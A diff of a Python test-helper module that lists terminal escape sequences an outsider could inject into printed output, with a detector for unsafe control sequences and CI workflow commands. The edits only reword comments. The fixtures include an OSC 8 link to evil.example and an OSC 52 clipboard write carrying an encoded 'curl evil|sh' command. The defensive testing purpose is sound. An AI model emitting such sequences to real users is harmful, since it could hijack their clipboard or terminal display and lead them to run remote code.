@@ -1,4 +1,4 @@
-"""Strings that someone else could put where a program prints them, and what must never come out of it."""
+"""Strings that someone else could put where a program prints them, and the control sequences that must not be printed."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ ESCAPES = (
     "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 link
     "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",  # writes the clipboard
     "\x1bP+q544e\x1b\\",
-    "\x9b31m",  # C1: CSI in one character
+    "\x9b31m",  # C1: CSI as one character
     "\x9d0;x\x9c",
     "\x90q\x9c",
     "over\rwritten",
@@ -64,11 +64,11 @@ FRIENDLY = (
 )
 
 _COMMAND = re.compile(r"(?m)^\s*::[A-Za-z]|##\[|##\w+\[")
-_OURS = re.compile(r"\x1b\[[0-9;]*m")  # colours and weights, which rich writes on a terminal
+_OURS = re.compile(r"\x1b\[[0-9;]*m")  # colors and weights, which rich writes on a terminal
 
 
 def leaks(text: str, *, styles: bool = False, lines: bool = True) -> list[str]:
-    """What of the output could do more than be read. `styles`: rich's own are allowed; `lines`: CR LF may end a line."""
+    """Unsafe parts of the output. `styles`: rich's own styles are permitted; `lines`: CR LF may end a line."""
     shown = _OURS.sub("", text) if styles else text
     shown = shown.replace("\r\n", "\n") if lines else shown
     found = [
